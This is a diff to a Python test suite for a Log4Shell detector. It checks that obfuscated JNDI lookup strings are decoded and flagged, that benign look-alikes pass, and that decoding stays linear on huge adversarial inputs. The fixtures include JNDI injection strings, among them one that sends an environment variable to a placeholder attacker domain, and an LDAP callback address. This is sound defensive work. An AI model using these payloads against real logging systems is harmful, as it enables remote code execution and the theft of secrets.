@@ -1,14 +1,31 @@
-"""Log4Shell indicators: every obfuscation form of the JNDI string, no evaluation, the HTTP
-request table, and the bundled scan's requests."""
+"""Log4Shell indicators: every obfuscation form of the JNDI string (a corpus from the public
+bypass lists), Log4j's lookup semantics, no evaluation, linear work, the HTTP request table,
+and the bundled scan's requests."""
 
 from __future__ import annotations
 
+import csv
+
 import pandas as pd
 import pytest
-
 from packet_factory import REPO, bundled_results, handshake, packet_frame, portless, tcp
+from tracelab.security.log4shell import (
+    MAX_ESCAPE_LAYERS,
+    MAX_LOOKUP_ROUNDS,
+    deobfuscate,
+    http_requests,
+    jndi_indicator,
+    unwrap,
+    uri_indicators,
+)
 from tracelab.security.security_connections import FlowSettings, assemble_connections
-from tracelab.security.log4shell import deobfuscate, http_requests, jndi_indicator, uri_indicators
+
+CORPUS = REPO / "tests/data/log4shell_corpus.tsv"
+
+
+def _corpus(kind: str) -> list[dict]:
+    with open(CORPUS, newline="", encoding="utf-8") as table:
+        return [row for row in csv.DictReader(table, delimiter="\t") if row["kind"] == kind]
 
 CALLBACK = {"jndi": True, "jndi_scheme": "ldap", "jndi_host": "198.51.100.7", "jndi_port": 1389}
 
@@ -81,8 +98,66 @@ def test_deobfuscation_is_bounded():
     layered = "${jndi:ldap://x/a}"
     for _ in range(40):
         layered = layered.replace("%", "%25").replace("$", "%24").replace("{", "%7B")
-    assert isinstance(deobfuscate(layered, max_rounds=16), str)
+    assert unwrap(layered).escape_layers == MAX_ESCAPE_LAYERS
     assert jndi_indicator("/" + "${" * 5000 + "x" + "}" * 5000)["jndi"] is False
+
+
+def test_the_corpus_covers_the_public_lists():
+    attacks, benign = _corpus("attack"), _corpus("benign")
+    assert len({row["payload"] for row in attacks}) >= 100 and len(benign) >= 50
+    assert all(row["source"] for row in attacks)
+
+
+@pytest.mark.parametrize("row", _corpus("attack"), ids=lambda row: row["payload"][:60])
+def test_every_variant_of_the_corpus_is_found_with_its_callback(row):
+    found = jndi_indicator(row["payload"])
+    assert found["jndi"] is True
+    assert (found["jndi_scheme"] or "", found["jndi_host"] or "",
+            str(found["jndi_port"] or "")) == (row["scheme"], row["host"], row["port"])
+    assert found["jndi_host_unresolved"] is row["host"].startswith("*.")
+
+
+@pytest.mark.parametrize("row", _corpus("benign") + _corpus("inert"),
+                         ids=lambda row: row["payload"][:60])
+def test_no_look_alike_is_flagged(row):
+    assert jndi_indicator(row["payload"])["jndi"] is False
+
+
+@pytest.mark.parametrize("text, plain", [
+    ("${lower:J:-x}", "j"),  # the lookup yields a value: the default is not used
+    ("${upper::-j}", ""),  # UpperLookup of the empty key is empty, not null
+    ("${date:}", ""),  # an empty date pattern prints nothing
+    ("${date:':'}", ":"),
+    ("${date:'it''s'}", "it's"),
+    ("${date:/.}", "/."),  # non-letters print as themselves
+    ("${date:-/.}", "/."),  # `:-` starts a default: the lookup `date` is null
+    ("${date:yyyy}", "${date:yyyy}"),  # a real date: unknown here
+    ("${env:NOPE:-a}${sys:nope:-b}${x:y:z:-c}${::-d}${:-e}", "abcde"),
+    ("${hostName:-x}${env:hostName:-x}", "${hostName:-x}${env:hostName:-x}"),  # always set
+    ("${java:version:-x}", "${java:version:-x}"),
+    ("${env:USER}", "${env:USER}"),  # never looked up
+    ("\\u0024\\u007b::-j\\u007d %u0024%u007B::-k%u007D %5Cu0024%5Cu007b::-l%5Cu007d", "j k l"),
+])
+def test_lookups_resolve_as_in_log4j(text, plain):
+    assert deobfuscate(text) == plain
+
+
+@pytest.mark.parametrize("text", [
+    "${" * (1 << 19),
+    "${lower:" * (1 << 17) + "j" + "}" * (1 << 17),
+    "%25" * ((1 << 20) // 3),
+    "%" + "25" * (1 << 19),
+    "\\u0024" * ((1 << 20) // 6),
+    "${::-a}" * ((1 << 20) // 7),
+    "${jndi:ldap://" + "${x}" * (1 << 18),
+], ids=["open", "nested", "percent", "layered", "unicode", "dense", "host"])
+def test_the_work_is_linear_in_the_text(text):
+    """1 MiB adversarial texts: a bounded number of passes, each reading at most the text, and
+    after the first lookup round only the span that changed (timings: benchmarks/)."""
+    work = unwrap(text)
+    assert work.escape_layers <= MAX_ESCAPE_LAYERS and work.lookup_rounds <= MAX_LOOKUP_ROUNDS
+    assert work.chars_read <= 8 * len(text)
+    assert jndi_indicator(text)["jndi"] is text.startswith("${jndi:")
 
 
 def test_uri_shape_columns():
@@ -91,6 +166,9 @@ def test_uri_shape_columns():
     assert shape["percent_encoded_share"].tolist() == pytest.approx([0.6, 0.0, 0.0, 0.0])
     assert shape["lookups"].tolist() == [0, 0, 1, 0]
     assert shape["jndi"].tolist() == [False, False, True, False]
+    unresolved = uri_indicators(pd.Series(["/${jndi:dns://${env:X}.attacker.tld/a}"]))
+    assert (unresolved["jndi_host"].iloc[0], unresolved["jndi_host_unresolved"].iloc[0]) == \
+        ("*.attacker.tld", True)
 
 
 def test_requests_are_matched_to_their_responses_in_order():
